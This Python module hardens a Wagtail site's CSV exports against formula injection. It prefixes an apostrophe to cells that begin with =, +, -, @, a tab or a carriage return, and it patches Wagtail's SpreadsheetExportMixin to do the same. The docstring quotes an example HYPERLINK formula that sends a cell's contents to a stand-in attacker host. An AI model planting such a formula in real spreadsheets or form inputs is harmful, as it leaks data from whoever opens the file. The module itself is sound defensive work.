"""Cells that spreadsheet programs cannot run as formulas (CSV formula injection).

A visitor's questionnaire answer ``=HYPERLINK("https://evil.example/?"&C2,"Open")``
becomes a live formula when the secretariat opens an export in Excel or
LibreOffice. OWASP's rule: a text cell starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return gets a leading apostrophe, which spreadsheets show
as text; the ``csv`` module already quotes embedded quotes and separators.
Numbers are left alone (a negative amount stays a number). A phone number
written ``+34 …`` comes out as ``'+34 …``: the price of the rule.

Every CSV the project writes goes through ``neutralise``: our own writers call
it, and ``install()`` (run when the app is ready) puts it into Wagtail's
``SpreadsheetExportMixin``, which writes the CSV of every admin listing and
report (members' listings and reports, site history, form submissions…).
Wagtail's XLSX export already stores such values as text.
"""

from functools import wraps

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _neutralising(preprocess):
    @wraps(preprocess)
    def preprocess_field_value(self, field, value, export_format):
        value = preprocess(self, field, value, export_format)
        return neutralise(value) if export_format == self.FORMAT_CSV else value

    preprocess_field_value.neutralises_csv = True
    return preprocess_field_value


def install():
    """Make Wagtail's spreadsheet export neutralise every CSV cell (idempotent)."""
    current = SpreadsheetExportMixin.preprocess_field_value
    if not getattr(current, "neutralises_csv", False):
        SpreadsheetExportMixin.preprocess_field_value = _neutralising(current)
